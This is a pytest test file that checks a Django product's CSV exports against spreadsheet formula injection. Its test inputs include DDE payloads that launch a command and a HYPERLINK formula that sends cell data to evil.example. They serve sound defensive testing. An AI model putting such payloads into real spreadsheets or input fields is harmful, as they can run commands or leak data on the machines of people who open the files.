"""Formula injection in exported CSV (issue 8, bad input): no cell of any CSV the product writes
is one a spreadsheet would run, and numbers stay numbers.

The CSVs: the liability (admin, finance), a tenant's statement (portal), the marketing audience
(admin), and the Export button of the tenant, store and till lists (django-import-export). Each
writes through `coalition.csvsafe`. A "formula" is a cell that begins with `=`, `+`, `-`, `@`,
TAB or CR (OWASP) and is not a plain number; a text cell that would be one gets a leading
apostrophe, which `csv_uncell` (and so the import) takes off again.
"""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from import_export.formats.base_formats import CSV
from tablib import Dataset

from coalition.csvsafe import csv_cell, csv_uncell, csv_writer
from coalition.documents import liability_csv
from coalition.models import Coalition
from coalition.selectors.liability import liability
from coalition.services import points_burn, points_earn
from coalition.tests.admin_client import client_for, staff_user
from consent.models import ConsentPurpose
from consent.services import consents_record
from consent.services.audience import audience_export
from members.tests.factories import MemberFactory
from settlement.documents import statement_csv
from settlement.models import Statement
from settlement.selectors import statement_document
from settlement.services import last_ended_month, month_bounds, period_close
from tenants.models import Store, Tenant, Till
from tenants.resources import StoreResource, TenantResource, TillResource
from tenants.tests.factories import TenantFactory, TillFactory

# OWASP's list, written out here rather than taken from the code under test.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?")
PAYLOADS = [
    "=1+1",
    "==1+1",  # import-export's own escaping drops one "=" only
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",  # already "quoted" by hand: must come back as typed
    "''",
    "-",
    "+",
    "-120.00",  # a number, as text: stays as it is
    "+919800000001",
]
# Any text a name, a receipt or a reason may hold (PostgreSQL text cannot hold NUL).
TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from([*FORMULA_START, "'", " ", ""]),
        st.text(st.characters(exclude_characters="\x00"), max_size=30),
    ),
)


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def read(content: str | bytes) -> list[list[str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    formulas = [cell for row in rows for cell in row if is_formula(cell)]
    assert not formulas, formulas


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


# The shared writer ------------------------------------------------------------------------------

NUMBERS = st.one_of(
    st.integers(min_value=-(10**15), max_value=10**15),
    st.decimals(min_value=-(10**12), max_value=10**12, places=2, allow_nan=False),
)


@settings(max_examples=300, deadline=None)
@given(row=st.lists(st.one_of(TEXT, NUMBERS), max_size=8))
@example(row=["-120.00", Decimal("-120.00"), -50, "=1+1", "'", "'=1"])
def test_the_writer_never_writes_a_formula_and_numbers_round_trip(row: list[Any]) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(row)
    (written,) = read(out.getvalue()) or [[]]
    assert len(written) == len(row)
    for original, cell in zip(row, written, strict=True):
        assert not is_formula(cell), (original, cell)
        if isinstance(original, str):
            assert csv_uncell(cell) == original
        else:
            assert cell == str(original)  # a negative amount or points stays a number


def test_what_counts_as_a_number():
    assert [csv_cell(v) for v in ("-120.00", "-50", "+919800000001", "0")] == [
        "-120.00",
        "-50",
        "+919800000001",
        "0",
    ]
    assert [csv_cell(v) for v in ("-1e3", "-1,000", "- 5", "-0x10", "-١٢٣", "+")] == [
        "'-1e3",
        "'-1,000",
        "'- 5",
        "'-0x10",
        "'-١٢٣",  # Arabic-Indic digits are not what [0-9] means
        "'+",
    ]


# The tenant, store and till lists' Export button --------------------------------------------


def export_csv(resource: Any) -> str:
    """What the admin's Export button sends for a resource: its dataset, through the format."""
    return str(CSV().export_data(resource.export()))


@pytest.mark.slow
def test_tenant_store_and_till_exports_hold_no_formula_and_read_back(
    coalition: Coalition, example_savepoint: Any
) -> None:
    @settings(
        max_examples=15,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(name=TEXT, legal=TEXT, store_name=TEXT, unit=TEXT.map(lambda text: text[:40]))
    @example(name="==1+1", legal="-120.00", store_name="@SUM(1)", unit="\t=1")
    def run(name: str, legal: str, store_name: str, unit: str) -> None:
        with example_savepoint():
            tenant = TenantFactory.create(coalition=coalition, slug="t1", name="x")
            till = TillFactory.create(tenant=tenant, code="=c1")
            # Names as a careless form (or a direct update) might leave them.
            Tenant.objects.filter(pk=tenant.pk).update(name=name, legal_name=legal)
            Store.objects.filter(pk=till.store_id).update(name=store_name, unit=unit, code="-s")
            for resource_class, stored in (
                (TenantResource, (name, legal)),
                (StoreResource, (store_name, unit, "-s")),
                (TillResource, ("=c1", "-s")),
            ):
                text = export_csv(resource_class())
                rows = read(text)
                assert_no_formula(rows)
                # Every stored text is in the file, recoverably.
                assert set(stored) <= {csv_uncell(cell) for cell in cells(rows)}
                if any(value != value.strip() or not value.strip() for value in stored[:1]):
                    continue  # a name import would strip or refuse: not one the forms let in
                # And the file reads back in as what exists: all skipped, nothing created.
                dataset = Dataset().load(text, format="csv")
                result = resource_class(coalition=coalition).import_data(
                    dataset, dry_run=True, use_transactions=True
                )
                assert not result.has_errors() and not result.has_validation_errors()
                assert [row.import_type for row in result.rows] == ["skip"]

    run()


def test_the_admin_export_button_writes_no_formula(coalition: Coalition) -> None:
    TenantFactory.create(coalition=coalition, slug="evil", name='=HYPERLINK("http://x","y")')
    manager = client_for(staff_user("pm", "Programme manager"))
    exported = manager.post(
        reverse("admin:tenants_tenant_export"),
        {
            "format": "0",
            "resource": "0",
            **{f"tenantresource_{c}": "on" for c in ("slug", "name", "legal_name", "category")},
        },
    )
    assert exported.status_code == 200
    rows = read(exported.content)
    assert_no_formula(rows)
    escaped = '\'=HYPERLINK("http://x","y")'
    assert rows[1][:3] == ["evil", escaped, escaped]  # the legal name defaults to the name


# The liability, a statement, the audience ---------------------------------------------------


@pytest.mark.slow
def test_the_liability_csv_holds_no_formula_whatever_a_tenant_is_called(
    coalition: Coalition, example_savepoint: Any
) -> None:
    member = MemberFactory.create(coalition=coalition)

    @settings(
        max_examples=15,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(name=TEXT)
    def run(name: str) -> None:
        with example_savepoint():
            till = TillFactory.create(tenant=TenantFactory.create(coalition=coalition, name=name))
            points_earn(till=till, member=member, amount=Decimal("4000.00"), receipt="=1+1")
            rows = read(liability_csv(liability(coalition)))
            assert_no_formula(rows)
            assert name in {csv_uncell(cell) for cell in cells(rows)}

    run()


def test_a_statement_csv_holds_no_formula_and_keeps_negative_amounts(
    coalition: Coalition, member: Any
) -> None:
    issuer = TillFactory.create(tenant=TenantFactory.create(coalition=coalition, slug="a"))
    honourer = TillFactory.create(tenant=TenantFactory.create(coalition=coalition, slug="b"))
    start, _ = month_bounds(coalition, last_ended_month(coalition, timezone.now()))
    at = start + timedelta(days=2)
    points_earn(
        till=issuer,
        member=member,
        amount=Decimal("4000.00"),
        receipt="=1+1",
        occurred_at=at,
        now=at,
    )
    later = at + timedelta(days=1)
    points_burn(
        till=honourer,
        member=member,
        points=40,
        bill_amount=Decimal("600.00"),
        receipt="@SUM(1)",
        occurred_at=later,
        now=later,
    )
    Tenant.objects.filter(slug="a").update(name="=cmd|' /C calc'!A0")
    period = period_close(coalition, start.date(), now=timezone.now())
    for slug in ("a", "b"):
        statement = Statement.objects.get(period=period, tenant__slug=slug)
        rows = read(statement_csv(statement_document(statement)))
        assert_no_formula(rows)
        numbers = [cell for cell in cells(rows) if NUMBER.fullmatch(cell)]
        if slug == "a":
            assert rows[0][1] == "'=cmd|' /C calc'!A0"
            assert ["Net amount", "", "", "", "40.00", "40.00"] in rows
        else:
            # The pool pays the honouring tenant: a negative amount, written as a number.
            assert any(cell.startswith("-") for cell in numbers), "\n".join(map(str, rows))


def test_the_audience_export_holds_no_formula(coalition: Coalition, staff: Any) -> None:
    member = MemberFactory.create(
        coalition=coalition, name="=1+1", email="a@example.com", phone="+919800000001"
    )
    consents_record(member=member, consents={ConsentPurpose.MARKETING_MALL: True})
    purpose = ConsentPurpose.objects.get(coalition=coalition, code=ConsentPurpose.MARKETING_MALL)
    export = audience_export(purpose=purpose, actor=staff, why="Diwali sale")
    rows = read(export.content)
    assert_no_formula(rows)
    assert rows[1][1:3] == ["'=1+1", "+919800000001"]  # the phone stays as it is: digits only


def test_till_exports_are_seen_by_slug_and_code_only(coalition: Coalition) -> None:
    """The till list's export names its tenant and store by slug and code, escaped too."""
    till = TillFactory.create(tenant=TenantFactory.create(coalition=coalition, slug="t"))
    Store.objects.filter(pk=till.store_id).update(code="+s")
    Till.objects.filter(pk=till.pk).update(code="@c")
    rows = read(export_csv(TillResource()))
    assert rows == [["tenant", "store", "code"], ["t", "'+s", "'@c"]]
